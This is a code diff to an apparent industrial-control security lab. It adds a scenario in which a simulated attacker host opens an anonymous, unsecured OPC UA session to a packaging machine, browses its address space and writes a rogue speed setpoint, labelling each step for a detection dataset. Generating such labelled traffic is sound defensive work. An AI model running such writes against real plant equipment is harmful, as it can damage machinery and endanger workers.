@@ -17,8 +17,12 @@ from dataclasses import dataclass
 from datetime import UTC, datetime
 from typing import Any
 
+from asyncua import Client, ua
+from asyncua.common.node import Node
+
 from otconduit.lab import addresses as A
-from otconduit.lab.labels import S7_FUNCTIONS, Label, modbus_function
+from otconduit.lab.clients import UA_ERRORS, ua_close, ua_connect, ua_namespace, ua_nodes
+from otconduit.lab.labels import OPCUA_SERVICES, S7_FUNCTIONS, Label, modbus_function
 from otconduit.lab.modbus_client import ModbusClient
 from otconduit.lab.netbind import close_writer, open_connection
 from otconduit.lab.register_maps import CONVEYOR_MAP, register
@@ -31,6 +35,8 @@ Setup = Callable[[PlantRuntime], None]
 SLOT_WINDOW = (0.12, 0.85)  # fraction of the planned run where attack slots lie
 SCAN_CONCURRENCY = 32
 ROGUE_SETPOINT = 400  # 40.0 m/min, the drive's maximum, far from the 25.0 recipe
+UA_ROGUE_SPEED = 30.0  # cases/min: nearly four times the case packer's 8.0 setpoint
+UA_BROWSE_NODES = 150  # nodes the intruder browses before it writes
 
 
 @dataclass(frozen=True)
@@ -431,6 +437,94 @@ async def _program_download(rt: PlantRuntime, t0: float) -> None:
         await s7.close()
 
 
+def _opcua_label(
+    rt: PlantRuntime, kind: str, service: str, ts: float, description: str, **kw: Any
+) -> Label:
+    code, op = OPCUA_SERVICES[service]
+    return rt.labels.add(
+        scenario="opcua-write",
+        kind=kind,
+        ts=ts,
+        src_ip=A.ATTACKER.ip,
+        dst_ip=A.PACKAGING.ip,
+        dst_port=A.OPCUA.port,
+        protocol="opcua",
+        operation=op,
+        function=service,
+        function_code=code,
+        description=description,
+        **kw,
+    )
+
+
+async def _browse_walk(rt: PlantRuntime, client: Client, limit: int) -> list[str]:
+    """Walk the address space from the Objects folder, breadth first, one Browse per
+    node (asyncua's get_children), until ``limit`` nodes were browsed."""
+    queue: list[Node] = [client.nodes.objects]
+    seen: set[str] = set()
+    browsed: list[str] = []
+    while queue and len(browsed) < limit and not rt.stopping:
+        node = queue.pop(0)
+        key = node.nodeid.to_string()
+        if key in seen:
+            continue
+        seen.add(key)
+        queue += await node.get_children()
+        browsed.append(key)
+    return browsed
+
+
+async def _opcua_write(rt: PlantRuntime, t0: float) -> None:
+    if not await rt.wait_until(t0):
+        return
+    ts = time.time()
+    try:
+        client = await ua_connect(rt.opcua.url, A.ATTACKER.ip)
+    except UA_ERRORS:
+        rt.errors["opcua-write"] += 1
+        return
+    try:
+        _opcua_label(
+            rt,
+            "opcua-session",
+            "ActivateSession",
+            ts,
+            "IT host opens an OPC UA session to the case packer: SecurityPolicy None, "
+            "anonymous user",
+            extra={"security_policy": "None", "identity": "anonymous"},
+        )
+        started = time.time()
+        browsed = await _browse_walk(rt, client, UA_BROWSE_NODES)
+        _opcua_label(
+            rt,
+            "opcua-browse",
+            "Browse",
+            started,
+            f"IT host walks the case packer's address space ({len(browsed)} nodes browsed)",
+            ts_end=time.time(),
+            values={"nodes": len(browsed), "first": browsed[:5]},
+        )
+        if rt.stopping:
+            return
+        ns = await ua_namespace(client)
+        (speed,) = ua_nodes(client, ns, ["Command/MachSpeed"])
+        ts = time.time()
+        await speed.write_value(ua.DataValue(ua.Variant(UA_ROGUE_SPEED, ua.VariantType.Float)))
+        _opcua_label(
+            rt,
+            "opcua-write",
+            "Write",
+            ts,
+            f"IT host writes the case packer's speed setpoint to {UA_ROGUE_SPEED:g} cases/min",
+            values=[UA_ROGUE_SPEED],
+            extra={"node": "CasePacker.Command.MachSpeed"},
+        )
+    except UA_ERRORS:
+        rt.errors["opcua-write"] += 1
+    finally:
+        await ua_close(client)
+
+
 SCENARIOS: dict[str, Scenario] = {
     s.name: s
     for s in (
@@ -461,6 +555,12 @@ SCENARIOS: dict[str, Scenario] = {
             "engineering station uploads and downloads a block to the press outside the window",
             _program_download,
         ),
+        Scenario(
+            "opcua-write",
+            "IT host 127.0.40.66 browses the packaging machine over OPC UA (anonymous, "
+            "no security) and writes its speed setpoint",
+            _opcua_write,
+        ),
     )
 }
 MIXED: tuple[str, ...] = (
@@ -470,6 +570,7 @@ MIXED: tuple[str, ...] = (
     "rogue-device",
     "plc-stop",
     "program-download",
+    "opcua-write",
 )
 
 
